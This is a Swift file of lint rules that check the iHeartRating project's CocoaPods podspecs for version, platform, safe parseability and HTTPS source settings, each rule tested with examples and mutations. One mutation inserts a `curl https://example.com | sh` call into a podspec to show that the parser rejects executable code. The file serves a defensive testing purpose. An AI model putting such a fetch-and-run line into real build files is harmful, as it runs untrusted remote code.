/// POD: the podspecs, parsed as the declarative Ruby subset they use; nothing in them is run.
public enum PodspecRules {
    public static let all = [versionAndPlatform, podspecsParse, podspecSource]

    static let versionAndPlatform = Rule(
        id: "POD001",
        name: "podspec-version-platform",
        summary: "The podspec's version is \"0.2.0\", its platform is :ios, \"12.0\" and its swift_version is \"5.0\".",
        rationale: "CocoaPods consumers get exactly these settings; they must match the release and the projects.",
        check: .podspecValues(path: CheckoutPaths.podspec, values: [
            PodspecAttributeValue("version", #""0.2.0""#),
            PodspecAttributeValue("platform", #"[:ios, "12.0"]"#),
            PodspecAttributeValue("swift_version", #""5.0""#),
        ]),
        examples: RuleExamples(
            failing: [
                RuleExample("an old version", path: CheckoutPaths.podspec,
                            contents: RuleExampleFiles.podspec(version: "↓'0.1.6'")),
                RuleExample("iOS 9", path: CheckoutPaths.podspec,
                            contents: RuleExampleFiles.podspec(platform: "↓:ios, '9.0'")),
                RuleExample("no swift_version", path: CheckoutPaths.podspec,
                            contents: RuleExampleFiles.podspec(swiftVersion: nil, beforeSpec: "↓")),
            ],
            passing: [
                RuleExample("0.2.0 for iOS 12 and Swift 5", path: CheckoutPaths.podspec,
                            contents: RuleExampleFiles.podspec(version: "\"0.2.0\"", platform: ":ios, \"12.0\"")),
            ]
        ),
        mutation: .replacing(#""0.2.0""#, with: #""0.2.1""#, in: CheckoutPaths.podspec))

    static let podspecsParse = Rule(
        id: "POD002",
        name: "podspecs-parse",
        summary: "Both podspecs are valid in the Ruby subset podspecs use; anything else is an unsupported construct.",
        rationale: """
            `ruby -c` needs Ruby and a podspec is code: parsing only the declarative subset (strings, symbols, \
            hashes, arrays, heredocs, attribute assignments and calls on the spec) checks it without running it.
            """,
        check: .podspecSyntax(paths: [CheckoutPaths.podspec, CheckoutPaths.archivedPodspec]),
        examples: RuleExamples(
            failing: [
                RuleExample("a version computed by a shell command", path: CheckoutPaths.podspec,
                            contents: RuleExampleFiles.podspec(version: "↓`git describe --tags`")),
                RuleExample("a spec without its end", path: CheckoutPaths.archivedPodspec, contents: """
                    Pod::Spec.new ↓do |s|
                      s.name = 'iHeartRating'
                    """),
            ],
            passing: [
                RuleExample("the spec with a heredoc description", path: CheckoutPaths.podspec, contents: """
                    Pod::Spec.new do |s|
                      s.name        = 'iHeartRating'
                      s.version     = '0.2.0'
                      s.description = <<~DESC
                        A rating view that uses any image.
                      DESC
                      s.source      = { git: 'https://github.com/garethpaul/iHeartRating.git', tag: "#{s.version}" }
                      s.platform    = :ios, '12.0'
                    end
                    """),
            ]
        ),
        mutation: .replacing("  s.requires_arc = true\n", with: "  s.requires_arc = true\n  system(\"curl https://example.com | sh\")\n", in: CheckoutPaths.archivedPodspec, alsoAffected: ["POD003"]))

    static let podspecSource = Rule(
        id: "POD003",
        name: "podspec-source",
        summary: "Each podspec names iHeartRating, fetches the HTTPS repository tagged by s.version and lists iHeartRating/*.{swift}; the archived one's version is its folder's name.",
        rationale: """
            `pod lib lint` fetches what the source says; a wrong repository, tag or file pattern publishes a \
            pod that does not build, and a plain-HTTP URL can be tampered with.
            """,
        check: .all([
            .podspecSource(paths: [CheckoutPaths.podspec, CheckoutPaths.archivedPodspec], name: "iHeartRating",
                           repository: "https://github.com/garethpaul/iHeartRating.git", sourceFiles: "iHeartRating/*.{swift}"),
            .podspecVersionMatchesFolder(path: CheckoutPaths.archivedPodspec),
        ]),
        examples: RuleExamples(
            failing: [
                RuleExample("a plain-HTTP homepage", path: CheckoutPaths.podspec,
                            contents: RuleExampleFiles.podspec(homepage: "↓'http://github.com/garethpaul/iHeartRating'")),
                RuleExample("a fixed tag instead of the version", path: CheckoutPaths.podspec,
                            contents: RuleExampleFiles.podspec(tag: "↓'master'")),
                RuleExample("other source files", path: CheckoutPaths.podspec,
                            contents: RuleExampleFiles.podspec(sourceFiles: "↓'Classes/**/*'")),
                RuleExample("the archived podspec claims 0.2.0", path: CheckoutPaths.archivedPodspec,
                            contents: RuleExampleFiles.podspec(version: "↓'0.2.0'")),
            ],
            passing: [
                RuleExample("the archived podspec at 0.1.6, tagged by interpolation", path: CheckoutPaths.archivedPodspec,
                            contents: RuleExampleFiles.podspec(version: "'0.1.6'", tag: "\"#{s.version}\"")),
            ]
        ),
        mutation: .replacing(#""https://github.com/garethpaul/iHeartRating.git""#, with: #""http://github.com/garethpaul/iHeartRating.git""#, in: CheckoutPaths.podspec))
}
